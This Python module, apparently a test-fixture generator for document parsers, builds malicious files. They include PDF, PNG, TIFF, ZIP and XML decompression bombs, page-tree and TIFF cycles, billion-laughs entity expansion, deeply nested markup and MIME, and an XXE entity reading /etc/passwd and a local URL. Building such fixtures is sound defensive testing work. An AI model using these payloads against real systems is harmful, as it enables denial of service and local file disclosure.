"""Makes documents that attack whoever reads them; each is small and named for what it does."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

_MAIN_PART = "word/document.xml"


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF of numbered `objects`, the first being the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object's body."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def page(contents: bytes = b"", *, resources: bytes = b"<<>>", box: bytes = b"0 0 595 842") -> list[bytes]:
    """Return the objects of a one-page PDF; object 4 is the page's contents."""
    return [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Resources%s/Contents 4 0 R>>" % (box, resources),
        stream(contents),
    ]


def deflated_zeros(size: int, rounds: int = 1) -> bytes:
    """Return `size` zero bytes, deflated `rounds` times."""
    # A mebibyte squeezed on its own is the same bytes every time, so it need be done only once.
    squeezer, step = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS), bytes(1 << 20)
    squeezer.compress(step), squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(step) + squeezer.flush(zlib.Z_FULL_FLUSH)
    last = squeezer.compress(bytes(size % (1 << 20))) + squeezer.flush()
    data = b"\x78\xda" + block * (size >> 20) + last + struct.pack(">HH", size % 65521, 1)
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return data


def flate_bomb(size: int = 2 << 30) -> bytes:
    """Return a PDF of a few kilobytes whose contents inflate to `size` bytes."""
    objects = page()
    objects[3] = stream(deflated_zeros(size, 2), b"/Filter[/FlateDecode/FlateDecode]")
    return pdf(objects)


def form_bomb(depth: int = 30, width: int = 10) -> bytes:
    """Return a PDF whose drawing repeats itself `width ** depth` times."""
    objects = page(b"/F Do", resources=b"<</XObject<</F 5 0 R>>>>")
    for level in range(depth):
        entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (level + 6)
        objects.append(stream(b"/F Do " * width, entries))
    objects.append(stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"))
    return pdf(objects)


def giant_image(side: int = 30_000) -> bytes:
    """Return a PDF with a picture of `side` by `side` pixels."""
    objects = page(b"q 595 0 0 842 0 0 cm /I Do Q", resources=b"<</XObject<</I 5 0 R>>>>")
    entries = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8" % (side, side)
    squeezed = deflated_zeros(side * side * 3, 2)
    objects.append(stream(squeezed, entries + b"/Filter[/FlateDecode/FlateDecode]"))
    return pdf(objects)


def giant_box() -> bytes:
    """Return a PDF whose page is five kilometres wide."""
    return pdf(page(b"BT ET", box=b"0 0 14400000 14400000"))


def many_pages(count: int = 200_000) -> bytes:
    """Return a PDF of `count` pages, all the same object."""
    objects = page()
    objects[1] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"3 0 R " * count, count)
    return pdf(objects)


def page_cycle() -> bytes:
    """Return a PDF whose page tree contains itself."""
    objects = page()
    objects[1] = b"<</Type/Pages/Kids[2 0 R]/Count 5>>"
    return pdf(objects)


def png_bomb(side: int = 60_000) -> bytes:
    """Return a PNG of `side` by `side` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", deflated_zeros(16 << 20)) + chunk(b"IEND", b"")
    )


def tiff_cycle() -> bytes:
    """Return a TIFF whose first picture is followed by itself, without end."""
    entries = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200)]
    entries += [(278, 3, 1, 8), (279, 4, 1, 64)]
    table = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    head = b"II*\x00" + struct.pack("<I", 8) + table + struct.pack("<I", 8)
    return head.ljust(200, b"\x00") + bytes(64)


def docx(parts: dict[str, bytes]) -> bytes:
    """Return a ZIP of `parts` that begins like a Word document."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def zip_bomb(size: int = 300 << 20) -> bytes:
    """Return a Word document that inflates to `size` bytes."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr(_MAIN_PART, b"<w/>")
        with package.open("word/media/image1.bmp", "w", force_zip64=True) as part:
            for _ in range(size >> 20):
                part.write(bytes(1 << 20))
    return out.getvalue()


def many_entries(count: int = 5_000) -> bytes:
    """Return a Word document of `count` parts."""
    return docx({_MAIN_PART: b"<w/>", **{f"word/{number}.bin": b"" for number in range(count)}})


def overlapping(count: int = 1_500, size: int = 10 << 20) -> bytes:
    """Return a Word document that lists one and the same part `count` times over."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr(_MAIN_PART, b"<w/>")
        package.writestr("word/a.bin", b"".join(bytes([number % 251]) * 90 for number in range(size // 90)))
        package.filelist += [package.filelist[1]] * count
    return out.getvalue()


def entities_from_outside() -> bytes:
    """Return a Word document that asks for a file of the machine, and for a page of the network."""
    head = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://[::1]/">]>'
    )
    return docx({_MAIN_PART: b"<w/>", "word/styles.xml": f"{head}<l>&a;&b;</l>".encode()})


def billion_laughs() -> bytes:
    """Return a Word document whose XML grows by entities."""
    lines = ['<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">']
    lines += [f'<!ENTITY l{level + 1} "{f"&l{level};" * 10}">' for level in range(9)]
    return docx({_MAIN_PART: "".join([*lines, "]><l>&l9;</l>"]).encode()})


def sheet_bomb() -> bytes:
    """Return a workbook whose sheet inflates a thousandfold."""
    return docx({"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": b"<a>" + bytes(200 << 20)})


def endless_sheet() -> bytes:
    """Return a workbook that says of one cell that it stands in the last row and column there can be."""
    space = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relations = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    listed = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    )
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return docx({
        "_rels/.rels": listed + b' Type="%s/officeDocument" Target="xl/workbook.xml"/></Relationships>' % relations,
        "xl/workbook.xml": b'<workbook %s xmlns:r="%s"><sheets>' % (space, relations)
        + b'<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": listed
        + b' Type="%s/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' % relations,
        "xl/worksheets/sheet1.xml": b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (space, cells),
    })  # fmt: skip


def endless_markup(depth: int = 300_000) -> bytes:
    """Return a page of elements within one another."""
    return b"<!DOCTYPE html><body>" + b"<table><tr><td>" * (depth // 3) + "底".encode()


def letter_of_letters(depth: int = 20_000) -> bytes:
    """Return a letter that says of each of its parts that it is a letter again."""
    return b"From: a@b.c\nSubject: a\nDate: b\n" + b"Content-Type: message/rfc822\n\n" * depth


def fixed_entities() -> bytes:
    """Return an OFD whose XML grows by entities."""
    return docx({"OFD.xml": b'<!DOCTYPE o [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><o>&b;</o>'})
